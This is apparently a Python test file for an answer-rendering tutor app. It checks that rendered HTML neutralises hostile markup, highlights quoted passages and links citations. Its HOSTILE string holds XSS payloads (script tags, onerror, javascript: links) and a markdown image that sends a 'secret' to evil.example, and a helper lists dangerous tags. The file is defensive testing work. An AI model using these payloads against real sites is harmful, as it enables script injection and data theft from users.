from tutor.answer.answer import Answer, Citation
from tutor.answer.citations import Span
from tutor.answer.layout import AnswerStatement
from tutor.flow import Tutor
from tutor.read.document import Passage, Source
from tutor.ui.passage import answer_html, passage_html
from tutor.ui.shown import as_text

HOSTILE = (
    "<script>alert(1)</script> <img src=x onerror=alert(2)> ![x](http://evil.example/?secret) "
    "[click](javascript:alert(3)) <form action=http://evil.example><input></form>"
)


def assert_harmless(html: str) -> None:
    lowered = html.lower()
    for danger in ("<script", "<img", "<form", "<input", 'href="javascript'):
        assert danger not in lowered


def test_markup_from_anywhere_is_shown_not_run() -> None:
    passage = Passage(
        "d#h", "d", HOSTILE, (HOSTILE,), HOSTILE, 0, len(HOSTILE), sources=(Source(HOSTILE, "https://a.b"),)
    )
    citation = Citation(1, Span(passage, 0, len(HOSTILE)))
    answer = Answer(HOSTILE, HOSTILE, (AnswerStatement(HOSTILE, (1,)),), (citation,))
    assert_harmless(answer_html(answer, "1", 0.1))
    assert_harmless(answer_html(Answer(HOSTILE, "offline", nearest=(HOSTILE,)), "1", 0.1))
    assert_harmless(as_text(HOSTILE))


def test_the_quoted_statement_is_marked() -> None:
    text = "First here. Second here.\n\n- an entry\n\n| a |\n|---|\n| b |"
    assert "<mark>Second here.</mark>" in passage_html(text, [(12, 24)])
    assert "<mark>First" not in passage_html(text, [(12, 24)])
    assert "class=marked" in passage_html(text, [(text.index("| a"), len(text))])
    entry = text.index("an entry")
    assert '<p class="entry"><mark>an entry</mark></p>' in passage_html(text, [(0, 5), (entry, entry + 8)])


def test_an_answer_links_to_its_passages_on_one_line(tutor: Tutor) -> None:
    html = answer_html(tutor.ask("What is Kettle?").answer, "7", 0.012)
    assert "\n" not in html
    assert 'href="#cite-7-1"' in html
    assert 'id="cite-7-1"' in html
    assert "checked 20 November 2026" in html
    assert "12 ms" in html
